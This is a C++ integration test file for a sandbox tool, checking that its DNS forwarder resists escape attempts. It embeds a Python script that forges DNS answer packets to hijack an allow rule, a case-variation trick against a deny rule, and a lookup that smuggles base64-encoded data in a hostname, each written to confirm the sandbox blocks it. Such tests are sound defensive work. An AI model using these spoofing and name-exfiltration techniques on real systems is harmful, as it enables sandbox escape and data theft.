// Attacks on host-name attribution and DNS refusals: a name must only ever be attributed to an
// address by a real answer from upstream to the sandbox's own query, and refused names must
// never reach upstream.
#include <gmock/gmock.h>

#include "tests/helpers/host_peers.h"
#include "tests/integration/names_fixture.h"

namespace sandgate::testing {
namespace {

class DnsEscapeTest : public NamesTest {};

// The sandbox sends sandgate's forwarder a forged *answer* saying allowed.test is 127.0.0.1,
// then connects there hoping the allow rule for that name applies.
TEST_F(DnsEscapeTest, ForgedAnswerFromTheSandboxAttributesNothing) {
  HostTcpListener listener;
  const std::string script = R"(
import socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
name = b''.join(bytes([len(p)]) + p for p in b'allowed.test'.split(b'.')) + b'\0'
header = struct.pack('!HHHHHH', 4242, 0x8180, 1, 1, 0, 0)
question = name + struct.pack('!HH', 1, 1)
answer = b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 300, 4) + socket.inet_aton('127.0.0.1')
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    u.sendto(header + question + answer, (ns, 53))
t = socket.socket()
try:
    t.connect(('127.0.0.1', int(sys.argv[1])))
    print('connected')
except OSError as e:
    print('refused', e.errno)
)";
  std::vector<std::string> argv = {SandgateBinary(), "run"};
  for (const auto& o : Options({"--allow", "allowed.test"})) argv.push_back(o);
  argv.insert(argv.end(), {"--", "python3", "-c", script, listener.Port()});
  auto attack = RunCommand(argv);
  EXPECT_EQ(attack.out, "refused 1\n") << attack.err;  // EPERM: asked, auto-denied
  EXPECT_EQ(listener.Accepted(), 0);
  auto audit = Audit("tcp");
  ASSERT_EQ(audit.size(), 1u);
  EXPECT_TRUE(audit[0]["destination"]["host"].is_null()) << audit[0].dump();
}

TEST_F(DnsEscapeTest, RefusalIgnoresLetterCase) {
  auto r = Run({"--deny", "denied.test"},
               "getent hosts DeNiEd.TeSt; echo udp=$?; RES_OPTIONS=use-vc getent hosts "
               "DENIED.TEST; echo tcp=$?");
  EXPECT_EQ(r.out, "udp=2\ntcp=2\n") << r.err;
  EXPECT_EQ(dns_->QueriesFor("denied.test"), 0);
}

// In strict mode a name no rule mentions never leaves the machine: the classic exfiltration
// channel (data in the labels of a lookup) is closed.
TEST_F(DnsEscapeTest, StrictModeStopsExfiltrationThroughNames) {
  auto r = Run({"--dns-strict", "--allow", "allowed.test"},
               "getent hosts c2VjcmV0LWRhdGE.other.test; echo rc=$?");
  EXPECT_EQ(r.out, "rc=2\n") << r.err;
  EXPECT_EQ(dns_->QueriesFor("c2vjcmv0lwrhdge.other.test"), 0);
  EXPECT_THAT(dns_->Log(), ::testing::Not(::testing::HasSubstr("other.test")));
}

}  // namespace
}  // namespace sandgate::testing
